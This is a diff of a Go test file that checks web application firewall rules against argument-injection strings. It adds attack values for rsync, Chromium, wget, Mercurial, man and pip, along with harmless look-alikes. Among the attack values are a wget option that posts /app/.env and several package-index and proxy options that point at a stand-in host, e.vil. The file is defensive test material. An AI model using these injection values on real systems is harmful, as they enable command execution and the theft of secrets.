@@ -49,6 +49,13 @@ var argumentAttacks = []string{
 	"-czf out.tgz -Itouch x; cat",
 	"-Ifoo x; id", "-Fsh x", "-Ipython3 -c x", "-F/srv/x.sh", "-I/srv/x",
 	"--use-askpass=/srv/uploads/x.sh", "--use-a=/srv/x", "--template=/srv/uploads/tpl", "--templ=/srv/t",
+	// a ninth fresh-eyes attack's (attack 13): rsync, Chromium, wget, hg,
+	// man and pip
+	"-esh -c id", "--rsync-path=id", "--gpu-launcher=id", "--renderer-cmd-prefix=id", "--utility-cmd-prefix=id",
+	"--execute=post_file=/app/.env", "-ehttp_proxy=http://e.vil", "--config=ui.ssh=id", "-Pid", "--pager=id",
+	"--index-url=http://e.vil/", "-i http://e.vil/", "-e id", "-e 'sh -c id'", "-P/srv/uploads/x.sh", "--rsync-path id", "--browser-subprocess-path=/srv/x",
+	"-e use_askpass=/srv/x", "--execu=output_document=/app/x", "--config ui.editor=id", "--config=extensions.x=/srv/x.py", "--config=hooks.pre-pull=id",
+	"--extra-index-url=https://e.vil/simple", "--find-links=http://e.vil/", "-ihttp://e.vil/", "--index=http://e.vil/",
 }
 
 var execBenign = []string{
@@ -71,6 +78,12 @@ var execBenign = []string{
 	"-Facebook privacy settings", "-Instagram -Facebook apps", "-Italy pizza", "-F/A-18 Hornet", "-Fixed crash when saving drafts\n-Improved sync speed",
 	"-Idaho potatoes", "-Fun times ahead", "-Install the app first",
 	"--use-ask", "--templates are here", "--temp", "--use-askpass",
+	// near attack 13's: short -e, -i and -P before words, Maven's
+	// profiles, options without a program or a URL
+	"-e mail", "-eshop", "-e", "-i", "-i love it", "-india trip", "-P", "-Pprod", "-Pdev -DskipTests", "-Personal note", "-P id card",
+	"-e sharp minor", "--index", "--index-url", "-i ./requirements.txt", "--pager", "--pagination=on", "--gpu", "-email=ann@example.com",
+	"--config=ui.username=ann", "-e http_proxy", "-Eid Mubarak", "-Pidgin English", "-e catalogue", "--execute", "-expected delays",
+	"-i https is required", "-f file.txt", "-Pi day", "--rsync", "--config=ui.verbose=true", "-e post", "-ideas", "-finance=1",
 }
 
 // execMatches runs v through rules 210180-210186 in Coraza with the
@@ -91,7 +104,7 @@ func execMatches(t *testing.T, waf coraza.WAF, v string) []int {
 	return ids
 }
 
-// TestExecRules: rules 210180 to 210186, through Coraza with its @rx
+// TestExecRules: rules 210180 to 210189, through Coraza with its @rx
 // prefilter on (SecRxPreFilter On, as the waf sets it), match the fifth
 // attack's F19 and F20 and none of the near-misses.
 func TestExecRules(t *testing.T) {
@@ -105,8 +118,8 @@ func TestExecRules(t *testing.T) {
 		}
 	}
 	for _, s := range argumentAttacks {
-		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] < 210181 || ids[0] > 210186 {
-			t.Errorf("%q: rules %v, want one of 210181-210186", s, ids)
+		if ids := execMatches(t, waf, s); len(ids) != 1 || ids[0] < 210181 || ids[0] > 210180+len(argumentShapes) {
+			t.Errorf("%q: rules %v, want one of 210181-%d", s, ids, 210180+len(argumentShapes))
 		}
 	}
 	for _, s := range execBenign {
